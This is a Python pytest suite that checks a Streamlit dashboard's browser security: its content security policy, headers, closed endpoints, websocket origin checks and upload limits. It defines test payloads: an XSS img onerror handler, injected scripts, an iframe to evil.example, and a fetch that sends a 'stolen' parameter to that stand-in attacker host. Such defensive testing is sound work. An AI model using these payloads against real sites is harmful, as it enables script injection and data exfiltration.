"""What a browser, a stranger's page or a curious client must not get out of the dashboard."""

import json
import os
import re
import socket
from collections.abc import Iterator
from functools import partial
from pathlib import Path

import pytest
import websockets.sync.client
from playwright.sync_api import ConsoleMessage, Page, expect
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from websockets.exceptions import InvalidStatus
from websockets.typing import Origin

from tests.browser.conftest import no_error, running_app
from tests.browser.driving import add_filter, export_csv, open_page
from tests.browser.policy import EXPECTED, listen
from tests.sandboxes import ask

pytestmark = pytest.mark.browser

INLINE_HANDLER = """() => {
  const box = document.createElement("div");
  box.innerHTML = "<img src=nowhere onerror='window.hacked = true'>";
  document.body.append(box);
}"""
INLINE_SCRIPT = """() => {
  const script = document.createElement("script");
  script.textContent = "window.hacked = true";
  document.body.append(script);
}"""
FOREIGN_SCRIPT = """() => {
  const script = document.createElement("script");
  script.src = "https://evil.example/x.js";
  document.body.append(script);
}"""
FRAME = """() => {
  const frame = document.createElement("iframe");
  frame.src = "https://evil.example/";
  document.body.append(frame);
}"""
TELL = """() => fetch("https://evil.example/?stolen=1").catch(() => null)"""
UPLOAD = """async ([session, size]) => {
  const cookie = document.cookie.match(/_streamlit_xsrf=([^;]*)/);
  const body = new FormData();
  body.append("file", new Blob([new Uint8Array(size)]), "big");
  const headers = cookie ? {"X-Xsrftoken": decodeURIComponent(cookie[1])} : {};
  const address = `/_stcore/upload_file/${session}/some-file`;
  return (await fetch(address, {method: "PUT", body, headers})).status;
}"""


def _says(words: str, message: ConsoleMessage) -> bool:
    return message.text == words


def test_no_script_comes_in_by_the_page_and_nothing_goes_out(
    page: Page, dashboard_url: str
) -> None:
    ear = listen(page)
    open_page(page, f"{dashboard_url}/uploads", "Uploads")
    assert set(ear.refused) <= {EXPECTED}
    tried = {
        INLINE_HANDLER: "REFUSED script-src-attr inline",
        INLINE_SCRIPT: "REFUSED script-src-elem inline",
        FOREIGN_SCRIPT: "REFUSED script-src-elem https://evil.example/x.js",
        FRAME: "REFUSED frame-src https://evil.example",
        TELL: "REFUSED connect-src https://evil.example/?stolen=1",
    }
    for attempt, refusal in tried.items():
        with page.expect_console_message(partial(_says, refusal)):
            page.evaluate(attempt)
    assert page.evaluate("window.hacked") is None


def test_downloads_drawers_and_popovers_work_under_the_policy(
    page: Page, dashboard_url: str
) -> None:
    ear = listen(page)
    job = "40bfd838-ad5f-40d9-9000-65c75bcf5f8b"
    open_page(page, f"{dashboard_url}/jobs?job_window=7+days&job={job}", "Jobs")
    expect(page.get_by_role("dialog")).to_be_visible()
    page.keyboard.press("Escape")
    with add_filter(page):
        expect(page.get_by_label("Track a job", exact=True)).to_be_visible()
    with page.expect_download() as download:
        export_csv(page)
    assert Path(download.value.path()).read_bytes().startswith(b"\xef\xbb\xbf")
    no_error(page)
    assert set(ear.refused) <= {EXPECTED}
    assert ear.errors == []


@pytest.fixture(scope="module")
def broken_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """The address and the log of an app that makes mistakes."""
    folder = tmp_path_factory.mktemp("broken")
    app = ["streamlit", "run", "tests/browser/scripts/broken_app.py"]
    with running_app(app, folder, os.environ | {"PYTHONPATH": "."}) as url:
        yield url, folder / "log.txt"


@pytest.mark.parametrize("where", ["Callback", "Fragment", "Script"])
def test_a_mistake_shows_an_id_and_the_log_has_the_details_under_it(
    page: Page, broken_app: tuple[str, Path], where: str
) -> None:
    url, log = broken_app
    page.goto(url)
    page.get_by_role("button", name=where).click()
    expect(page.get_by_text("Internal error")).to_be_visible()
    shown = page.get_by_text(re.compile(r"^Error id [0-9a-f]{8}\.")).inner_text()
    assert "canary-31f7" not in page.content()
    error_id = shown.split()[2].rstrip(".")
    (line,) = [json.loads(line) for line in log.read_text().splitlines() if error_id in line]
    assert line["error_id"] == error_id
    assert f"RuntimeError: canary-31f7 {where}" in line["exc_info"]


@pytest.mark.parametrize("path", ["/", "/healthz", "/_stcore/health", "/static/nothing.js"])
def test_every_answer_carries_the_headers_that_protect_it(dashboard_url: str, path: str) -> None:
    headers = ask("GET", dashboard_url + path).headers
    policy = dict(each.split(" ", 1) for each in headers["content-security-policy"].split("; "))
    assert policy["frame-ancestors"] == policy["default-src"] == policy["base-uri"] == "'none'"
    assert "unsafe" not in policy["script-src"]
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"
    assert headers["referrer-policy"] == "no-referrer"


def test_no_page_around_it_is_told_that_it_may_steer_the_dashboard(dashboard_url: str) -> None:
    assert ask("GET", f"{dashboard_url}/_stcore/host-config").json()["allowedOrigins"] == []


@pytest.mark.parametrize(
    "path",
    [
        "/_stcore/metrics",
        "/_stcore/script-health-check",
        "/_stcore/agent/openapi.json",
        "/jobs/_stcore/metrics",
        "/_stcore/%6detrics",
    ],
)
def test_what_streamlit_serves_unasked_is_closed(dashboard_url: str, path: str) -> None:
    answer = ask("GET", dashboard_url + path)
    assert (answer.status_code, answer.text) == (404, "Not found")
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_nobody_drives_the_dashboard_as_a_program(dashboard_url: str) -> None:
    for path in ("interact", "mcp"):
        assert ask("POST", f"{dashboard_url}/_stcore/agent/{path}", json={}).status_code == 404


@pytest.mark.parametrize(
    ("host", "origin"), [("localhost", Origin("https://evil.example")), ("evil.example", None)]
)
def test_a_page_of_a_stranger_gets_no_connection(
    dashboard_url: str, host: str, origin: Origin | None
) -> None:
    port = int(dashboard_url.rpartition(":")[2])
    address = f"ws://{host}:{port}/_stcore/stream"
    with (
        socket.create_connection(("localhost", port)) as connected,
        pytest.raises(InvalidStatus, match="403"),
    ):
        websockets.sync.client.connect(address, origin=origin, sock=connected)
    headers = {"Origin": "https://evil.example"}
    answer = ask("GET", f"{dashboard_url}/_stcore/host-config", headers=headers)
    assert "access-control-allow-origin" not in answer.headers


def test_an_upload_needs_a_token_and_a_session_and_is_bounded(
    page: Page, dashboard_url: str
) -> None:
    url = f"{dashboard_url}/_stcore/upload_file/nobody/some-file"
    assert ask("PUT", url, files={"file": b"x"}).status_code == 403
    sessions: list[str] = []

    def hear(frame: str | bytes) -> None:
        message = ForwardMsg.FromString(frame if isinstance(frame, bytes) else b"")
        if message.WhichOneof("type") == "new_session":
            sessions.append(message.new_session.initialize.session_id)

    page.on("websocket", lambda opened: opened.on("framereceived", hear))
    open_page(page, dashboard_url, "Overview")
    assert page.evaluate(UPLOAD, ["nobody", 10]) == 400
    assert page.evaluate(UPLOAD, [sessions[0], 10]) == 204
    assert page.evaluate(UPLOAD, [sessions[0], 5 * 1024 * 1024 + 1]) == 413
